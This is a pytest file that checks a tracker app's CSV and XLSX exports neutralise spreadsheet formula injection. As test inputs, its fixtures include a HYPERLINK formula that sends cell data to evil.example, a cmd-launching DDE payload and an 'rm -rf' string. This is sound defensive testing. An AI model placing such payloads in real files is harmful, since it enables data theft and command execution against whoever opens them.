"""Exports are safe to open in a spreadsheet: a cell that would start a formula stays text."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from tracker.exports import neutralise_formula
from tracker.models.enums import Role

#: Titles as someone could type them, and the CSV cell each must become (OWASP CSV Injection).
TITLES = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUMA(A1:A9)": "'@SUMA(A1:A9)",
    "\tcon tabulador": "'\tcon tabulador",
    "\rcon retorno": "'\rcon retorno",
    "Informe final = listo": "Informe final = listo",
    "Revisar acta": "Revisar acta",
}


@pytest.fixture
def risky(make):
    """Follow-ups whose title, owner, institution and description start like formulas."""
    owner = make.person(name="=Ana", email="ana@example.org")
    org = make.organization(name="@Institución")
    for n, title in enumerate(TITLES):
        make.followup(
            owner=owner,
            organization=org,
            title=title,
            description="-rm -rf" if n == 0 else "sin riesgo",
            due_on=date(2026, 1, 1 + n),
        )
    return owner


def _csv_rows(client, url: str, delimiter: str = ";") -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_csv_cells_that_start_a_formula_are_quoted_and_keep_their_text(app, make, risky):
    client = app.test_client()
    client.login(make.user(Role.VIEWER))
    rows = _csv_rows(client, "/seguimientos/exportar.csv?status=all")
    header, body = rows[0], rows[1:]
    title, owner, org, description = (
        header.index(name)
        for name in ("Título", "Responsable", "Institución responsable", "Descripción")
    )
    assert [row[title] for row in body] == list(TITLES.values())
    assert {row[owner] for row in body} == {"'=Ana"}
    assert {row[org] for row in body} == {"'@Institución"}
    assert body[0][description] == "'-rm -rf" and body[1][description] == "sin riesgo"
    # Our own numbers and dates are not touched: an id stays a number, a date a date.
    assert all(row[0].isdigit() for row in body)
    assert body[0][header.index("Fecha límite")] == "2026-01-01"
    assert body[0][header.index("Reprogramaciones")] == "0"


def test_no_csv_cell_of_the_export_starts_with_a_formula_character(app, make, risky):
    client = app.test_client()
    client.login(make.user(Role.MEMBER))
    for separator in (";", ","):
        url = f"/seguimientos/exportar.csv?status=all&sep={separator}"
        for row in _csv_rows(client, url, separator):
            assert len(row) == 20
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_writes_every_text_as_an_inline_string_never_a_formula(app, make, risky):
    client = app.test_client()
    client.login(make.user(Role.VIEWER))
    with client.get("/seguimientos/exportar.xlsx?status=all") as response:
        assert response.status_code == 200
        data = response.data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "no cell is a formula"
    assert 't="inlineStr"' in sheet and "=HYPERLINK" in sheet
    workbook = load_workbook(io.BytesIO(data))
    titles = [cell.value for cell in workbook.active["B"][1:]]
    types = {cell.data_type for cell in workbook.active["B"][1:]}
    workbook.close()
    # In XLSX a text cell is text (Excel does not evaluate it), so the value is kept as typed.
    assert types == {"s"}
    assert titles[0] == '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1", "'=1"),
        ("", ""),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_neutralise_formula_changes_only_risky_text(value, expected):
    assert neutralise_formula(value) == expected
